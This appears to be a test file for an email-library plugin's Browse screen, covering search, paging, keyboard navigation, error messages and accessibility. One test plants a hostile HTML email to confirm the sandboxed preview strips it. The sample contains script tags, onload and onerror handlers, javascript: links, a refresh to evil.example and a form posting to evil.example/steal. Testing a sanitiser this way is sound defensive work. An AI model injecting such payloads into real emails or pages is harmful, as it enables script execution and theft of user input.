@@ -1,0 +1,288 @@
+// Browse (the email library) through the playground, as a designer uses it: the real
+// dist/ui.html calling the library emulator from the iframe. Driven by roles, labels, visible
+// text and keys; what the screen shows is checked against what the emulator serves.
+import { mkdirSync } from 'node:fs';
+import type { Frame, Request } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseEmulatorState, type EmulatorDemoState } from '../playground/page/emulator-link';
+import { axeViolationsAsync } from './support/axe';
+import { evaluateHooks, startHarnessAsync, textOf, type Harness } from './support/playground-harness';
+
+let h: Harness;
+let state: EmulatorDemoState;
+const SHOTS = 'test-results/screenshots';
+
+interface Summary {
+  id: number;
+  subject_line: string;
+  brand: string;
+  brand_slug: string;
+  from_email: string;
+}
+
+beforeAll(async () => {
+  h = await startHarnessAsync();
+  state = parseEmulatorState(await (await fetch(`${h.emulator.libraryUrl}/_emulator/state`)).json());
+  mkdirSync(SHOTS, { recursive: true });
+});
+
+afterAll(async () => {
+  await h?.closeAsync();
+});
+
+/** The emulator's answer to a library path, read directly (not through the plugin). */
+async function libraryAsync<T>(path: string, key: string | null = null): Promise<T> {
+  const response = await fetch(`${h.emulator.libraryUrl}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
+  expect(response.ok).toBe(true);
+  return (await response.json()) as T;
+}
+
+/**
+ * A fresh world on the Browse screen: with the emulator's demo library key, or anonymous (the
+ * library address saved in Settings, no key).
+ */
+async function openBrowseAsync(theme: 'light' | 'dark', access: 'key' | 'anonymous'): Promise<Frame> {
+  await h.openAsync(`?command=browse&theme=${theme}${access === 'key' ? '&demo-keys=1' : ''}`);
+  await evaluateHooks(h.page, (hooks) => hooks.reset());
+  await h.page.waitForSelector('html[data-playground-ready="true"]', { state: 'attached' });
+  const ui = await h.uiFrameAsync();
+  if (access === 'anonymous') {
+    await ui.getByTestId('nav-settings').click();
+    await ui.getByTestId('settings-library-base-url').fill(h.emulator.libraryUrl);
+    await ui.getByTestId('settings-library-save').click();
+    await expect.poll(() => evaluateHooks(h.page, async (hooks) => hooks.fake().figma.clientStorage.getAsync('envelope.library.baseUrl')), { timeout: 10_000 }).toBe(h.emulator.libraryUrl);
+    await ui.getByTestId('nav-browse').click();
+  }
+  await emailList(ui).waitFor({ timeout: 20_000 });
+  return ui;
+}
+
+const emailList = (ui: Frame) => ui.getByRole('list', { name: 'Emails' });
+const cards = (ui: Frame) => emailList(ui).getByRole('button');
+
+async function cardSubjectsAsync(ui: Frame): Promise<string[]> {
+  return emailList(ui).locator('.email-card-subject').allTextContents();
+}
+
+async function loadedCountAsync(ui: Frame): Promise<number> {
+  const text = (await textOf(ui.getByTestId('library-status'))) ?? '';
+  const match = /^(\d+) emails?/.exec(text);
+  return match ? Number(match[1]) : -1;
+}
+
+async function checkAxeAsync(ui: Frame, what: string): Promise<void> {
+  expect(await axeViolationsAsync(ui), what).toEqual([]);
+}
+
+describe('Browse: search', () => {
+  it('shows the library’s emails (anonymous), filters by category and brand, and loads more pages on scroll without duplicates', async () => {
+    const emailRequests: string[] = [];
+    const watch = (request: Request) => {
+      if (request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`)) emailRequests.push(request.url());
+    };
+    h.page.on('request', watch);
+    try {
+      const ui = await openBrowseAsync('light', 'anonymous');
+      const first = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50');
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects.slice(0, 3))).toEqual(first.data.slice(0, 3).map((email) => email.subject_line));
+      expect(await cards(ui).first().textContent()).toContain(first.data[0]!.brand);
+      // Only the rows on screen are in the page, and only their thumbnails load.
+      const drawn = await cards(ui).count();
+      expect(drawn).toBeLessThan(50);
+      const images = await emailList(ui).locator('img').count();
+      expect(images).toBeGreaterThan(0);
+      expect(images).toBeLessThanOrEqual(drawn);
+
+      // Scrolling down asks for the next pages; the emulator repeats an item across pages (inexact paging).
+      await ui.getByTestId('email-grid').hover();
+      for (let round = 0; round < 4; round++) {
+        const before = await loadedCountAsync(ui);
+        // Scrolling on, as a person does, until the next page is in.
+        await expect
+          .poll(
+            async () => {
+              await h.page.mouse.wheel(0, 2_000);
+              return loadedCountAsync(ui);
+            },
+            { timeout: 15_000 },
+          )
+          .toBeGreaterThan(before);
+      }
+      const shown = await loadedCountAsync(ui);
+      const pages = [...new Set(emailRequests)];
+      const ids: number[] = [];
+      for (const url of pages) ids.push(...(await libraryAsync<{ data: Summary[] }>(new URL(url).pathname + new URL(url).search)).data.map((email) => email.id));
+      expect(ids.length).toBeGreaterThan(new Set(ids).size);
+      expect(shown).toBe(new Set(ids).size);
+      expect(await emailList(ui).getByRole('listitem').first().getAttribute('aria-setsize')).toBe(String(shown));
+      await h.page.screenshot({ path: `${SHOTS}/library-search-scrolled-light.png` });
+
+      // Category: the same first emails as the emulator gives for that category.
+      await ui.getByLabel('Category').selectOption({ label: 'Beauty' });
+      const beauty = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=beauty&per_page=50');
+      expect(beauty.data.length).toBeGreaterThan(0);
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(beauty.data[0]!.subject_line);
+
+      // Brand (picked by name from `GET /v1/brands?q=`): every card is that brand's.
+      await ui.getByLabel('Category').selectOption({ label: 'All categories' });
+      const brand = beauty.data[0]!;
+      await ui.getByLabel('Brand').fill(brand.brand);
+      const ofBrand = await libraryAsync<{ data: Summary[] }>(`/v1/emails?brand=${encodeURIComponent(brand.brand_slug)}&per_page=50`);
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(ofBrand.data[0]!.subject_line);
+      const brands = await emailList(ui).locator('.email-card-brand').allTextContents();
+      expect(new Set(brands)).toEqual(new Set([brand.brand]));
+
+      // Words that match nothing: said in words.
+      await ui.getByLabel('Brand').fill('');
+      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('zzqqxx nothing like this');
+      await expect.poll(() => textOf(ui.getByTestId('library-empty')), { timeout: 10_000 }).toContain('No emails match this search.');
+    } finally {
+      h.page.off('request', watch);
+    }
+  });
+
+  it('says which key the library refused and offers Settings (401)', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    await ui.getByTestId('nav-settings').click();
+    await ui.getByTestId('settings-library-replace-key').click();
+    await ui.getByTestId('settings-library-key').fill(state.library.keys.revoked!);
+    await ui.getByTestId('settings-library-save').click();
+    await expect.poll(() => textOf(ui.getByTestId('settings-library-key-hint')), { timeout: 10_000 }).not.toBeNull();
+    await ui.getByTestId('nav-browse').click();
+    const alert = ui.getByTestId('library-problem').getByRole('alert');
+    await expect.poll(() => textOf(alert), { timeout: 15_000 }).toMatch(/^The email library API key was not accepted\..*Settings/);
+    await ui.getByRole('button', { name: 'Open Settings' }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
+  });
+});
+
+describe('Browse: an email', () => {
+  it('opens an email with its detail from the library, and Escape returns to the same place', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    await ui.getByTestId('email-grid').hover();
+    await h.page.mouse.wheel(0, 900);
+    await expect.poll(() => ui.getByTestId('email-grid').evaluate((element) => element.scrollTop)).toBeGreaterThan(0);
+    const scrollTop = await ui.getByTestId('email-grid').evaluate((element) => element.scrollTop);
+    // A card wholly in view, past the first row (clicking it scrolls nothing).
+    const fully = await ui.getByTestId('email-grid').evaluate((grid) => {
+      const box = grid.getBoundingClientRect();
+      const inView = [...grid.querySelectorAll<HTMLElement>('[data-index]')].filter((card) => {
+        const rect = card.getBoundingClientRect();
+        return rect.top >= box.top && rect.bottom <= box.bottom;
+      });
+      return inView[inView.length - 1]!.dataset['index']!;
+    });
+    const card = emailList(ui).locator(`[data-index="${fully}"]`);
+    const subject = (await card.locator('.email-card-subject').textContent()) ?? '';
+    const index = Number(await card.getAttribute('data-index'));
+    await card.click();
+    const title = ui.getByRole('heading', { level: 2 });
+    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subject);
+    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
+    const summary = list.data[index]!;
+    const detail = (await libraryAsync<{ data: { from_email: string; brand: { name: string }; categories: Array<{ name: string }> }; meta: { attribution: { source: string } } }>(`/v1/emails/${summary.id}`, state.library.keys.demo));
+    const article = ui.getByRole('article');
+    expect(await article.textContent()).toContain(detail.data.from_email);
+    expect(await article.textContent()).toContain(detail.data.brand.name);
+    for (const category of detail.data.categories) expect(await ui.getByRole('button', { name: `Show ${category.name} emails` }).count()).toBe(1);
+    expect(await textOf(ui.getByTestId('email-attribution'))).toContain(detail.meta.attribution.source);
+    expect(await ui.getByRole('img', { name: `Screenshot of the email “${subject}”` }).count()).toBe(1);
+
+    await h.page.keyboard.press('Escape');
+    await emailList(ui).waitFor();
+    expect(await ui.getByTestId('email-grid').evaluate((element) => element.scrollTop)).toBe(scrollTop);
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe(String(index));
+  });
+
+  it('works by keyboard alone: / finds, arrows move, Enter opens, arrows go to the next email, Escape goes back', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    // Into the plugin's window (a click on its title), then only keys.
+    await ui.getByRole('heading', { level: 1 }).click();
+    await h.page.keyboard.press('/');
+    expect(await ui.evaluate(() => document.activeElement?.id)).toBe('library-query');
+    const subjects = await cardSubjectsAsync(ui);
+    await h.page.keyboard.press('ArrowDown');
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('0');
+    await h.page.keyboard.press('ArrowRight');
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('1');
+    await h.page.keyboard.press('Enter');
+    const title = ui.getByRole('heading', { level: 2 });
+    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[1]);
+    await h.page.keyboard.press('ArrowRight');
+    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[2]);
+    expect(await textOf(ui.getByRole('navigation', { name: 'Results' }))).toContain('3 of');
+    await h.page.keyboard.press('Escape');
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('2');
+  });
+
+  it('shows hostile HTML without running it: no script, no message to the sandbox, the rest of the email still there', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
+    const target = list.data[0]!;
+    const hostile = [
+      '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+      '<script>parent.postMessage({pluginMessage:{type:"hostile/script"}},"*");top.document.title="owned"</script>',
+      '<style>.overlay{position:fixed;inset:0;z-index:99999;background:red}</style></head>',
+      '<body onload="parent.postMessage({pluginMessage:{type:\'hostile/onload\'}},\'*\')"><div class="overlay"></div>',
+      '<h1>Still a harmless email</h1><img src="x" onerror="parent.postMessage({pluginMessage:{type:\'hostile/onerror\'}},\'*\')">',
+      '<a href="javascript:parent.postMessage({pluginMessage:{type:\'hostile/link\'}},\'*\')">Open the offer</a>',
+      '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
+      '<iframe srcdoc="<script>parent.parent.postMessage({pluginMessage:{type:\'hostile/nested\'}},\'*\')</script>"></iframe>',
+      '<object data="javascript:parent.postMessage(1,\'*\')"></object><svg><script>parent.postMessage({pluginMessage:{type:"hostile/svg"}},"*")</script></svg>',
+      '</body></html>',
+    ].join('');
+    const stored = await fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${target.id}/html`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html: hostile }) });
+    expect(stored.ok).toBe(true);
+    const titleBefore = await h.page.title();
+
+    await cards(ui).first().click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(target.subject_line);
+    await ui.getByRole('button', { name: 'HTML' }).click();
+    const frameElement = ui.getByTitle(`HTML of “${target.subject_line}”`);
+    await frameElement.waitFor();
+    expect(await frameElement.getAttribute('sandbox')).toBe('');
+    const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
+    expect(srcdoc).toMatch(/^<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src http:\/\/127\.0\.0\.1:\d+;/);
+    for (const gone of ['<script', 'onload=', 'onerror=', 'javascript:', '<form', '<iframe', '<object', '<base', 'refresh']) expect(srcdoc).not.toContain(gone);
+    const preview = (await frameElement.elementHandle())!;
+    const frame = (await preview.contentFrame())!;
+    await expect.poll(() => frame.locator('h1').textContent({ timeout: 1_000 }).catch(() => null)).toBe('Still a harmless email');
+    await frame.getByText('Open the offer').click({ force: true });
+    await ui.getByRole('button', { name: 'Mobile' }).click();
+    expect(await frameElement.evaluate((element) => element.getBoundingClientRect().width)).toBe(375);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+
+    const messages = await evaluateHooks(h.page, (hooks) => hooks.messages());
+    expect(JSON.stringify(messages)).not.toContain('hostile/');
+    expect(await h.page.title()).toBe(titleBefore);
+    // The plugin's own UI is untouched and still answers.
+    expect(await textOf(ui.getByRole('heading', { level: 1 }))).toBe('Browse');
+    await ui.getByRole('button', { name: 'Screenshot' }).click();
+    expect(await ui.getByRole('img', { name: `Screenshot of the email “${target.subject_line}”` }).count()).toBe(1);
+  });
+
+  it('says why there is no HTML without a key', async () => {
+    const ui = await openBrowseAsync('light', 'anonymous');
+    await cards(ui).first().click();
+    await expect.poll(() => textOf(ui.getByTestId('html-status')), { timeout: 10_000 }).toContain('shown with a library key');
+    expect(await ui.getByRole('button', { name: 'HTML' }).isDisabled()).toBe(true);
+  });
+});
+
+describe('Browse in both themes', () => {
+  for (const theme of ['light', 'dark'] as const) {
+    it(`search and detail are clean under axe in the ${theme} theme (screenshots)`, async () => {
+      const ui = await openBrowseAsync(theme, 'key');
+      await expect.poll(() => emailList(ui).locator('img').evaluateAll((images) => images.every((image) => (image as HTMLImageElement).complete)), { timeout: 10_000 }).toBe(true);
+      await checkAxeAsync(ui, `search, ${theme}`);
+      await h.page.screenshot({ path: `${SHOTS}/library-search-${theme}.png` });
+      await cards(ui).first().click();
+      await ui.getByRole('heading', { level: 2 }).waitFor({ timeout: 10_000 });
+      await checkAxeAsync(ui, `detail, ${theme}`);
+      await h.page.screenshot({ path: `${SHOTS}/library-detail-${theme}.png` });
+      await ui.getByRole('button', { name: 'HTML' }).click();
+      await ui.locator('iframe.email-html').waitFor();
+      await h.page.screenshot({ path: `${SHOTS}/library-detail-html-${theme}.png` });
+    });
+  }
+});
